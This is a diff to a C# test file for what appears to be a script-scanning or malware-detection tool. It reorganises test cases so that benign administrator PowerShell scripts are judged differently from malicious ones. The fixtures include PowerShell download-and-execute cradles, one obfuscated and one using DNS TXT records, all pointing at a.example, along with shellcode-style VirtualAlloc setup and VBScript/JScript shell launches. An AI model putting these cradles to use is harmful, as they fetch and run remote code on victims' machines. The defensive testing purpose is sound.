@@ -37,10 +37,8 @@ public sealed class ScriptFileTests
     [InlineData("[Net.ServicePointManager]::Expect100Continue=0;$wc=New-Object Net.WebClient;"
         + "$wc.DownloadString('http://a.example/')|iex", "a.ps1")]
     [InlineData("& ((gv '*mdr*').Name[3,11,2]-join'') (New-Object Net.WebClient).DownloadString('http://a.example/')", "a.ps1")]
-    [InlineData("if([IntPtr]::Size -eq 4){$b='powershell.exe'};$s=New-Object System.Diagnostics.ProcessStartInfo", "a.ps1")]
     [InlineData("if(''+(nslookup -q=txt a.example) -match '@(.*)@'){iex $matches[1]}", "a.ps1")]
     [InlineData("$08Q = '[DllImport(\"kernel32.dll\")] VirtualAlloc';\n$a1 = Add-Type -MemberDefinition $08Q;\n", "a.ps1")]
-    [InlineData("function Get-It {\n  Start-Process calc\n}\nGet-It\n", "a.ps1")]
     [InlineData("Dim oShell\r\nSet oShell = WScript.CreateObject (\"WScript.Shell\")\r\noShell.Run \"calc\"", "a.vbs")]
     [InlineData("a = (1, this);\nfunction String.prototype.run() { return 'Shell'; }\n"
         + "b = new a[('x', 'ActiveXObject')]('WScript.' + ''.run());\n(b)['Run']('calc');\n"
@@ -59,6 +57,21 @@ public sealed class ScriptFileTests
 
         alone.Verdict.ShouldBeOneOf([Verdict.Suspicious, Verdict.Malicious], Judged.Text(alone));
         inside.Verdict.ShouldBeOneOf([Verdict.Suspicious, Verdict.Malicious], Judged.Text(inside));
+    }
+
+    [Theory]
+    [InlineData("function Get-It {\n  Start-Process calc\n}\nGet-It\n", "script.runs-commands")]
+    [InlineData("if([IntPtr]::Size -eq 4){$b='powershell.exe'};$s=New-Object System.Diagnostics.ProcessStartInfo", "script.runs-commands")]
+    [InlineData("$s = Get-ADComputer -Filter *\nInvoke-Command -ComputerName $s -ScriptBlock { Get-Process }\n", "script.runs-commands")]
+    [InlineData("$a = Get-Date\n[System.Reflection.Assembly]::LoadWithPartialName('System.Web')\nWrite-Host $a\n", null)]
+    public void Complete_ScriptOfAnAdministrator_IsDescribedByItselfAndSuspiciousInside(string script, string? rule)
+    {
+        var alone = Judged.Of(script);
+
+        alone.Verdict.ShouldBe(Verdict.Unable, Judged.Text(alone));
+        alone.Rules().Where(found => found != "script.language").ShouldBe(rule is null ? [] : [rule]);
+        alone.Gaps().ShouldBe(["not-judged"]);
+        Judged.Of(ZipMaker.Pack(("a.ps1", script))).Verdict.ShouldBe(Verdict.Suspicious);
     }
 
     [Theory]
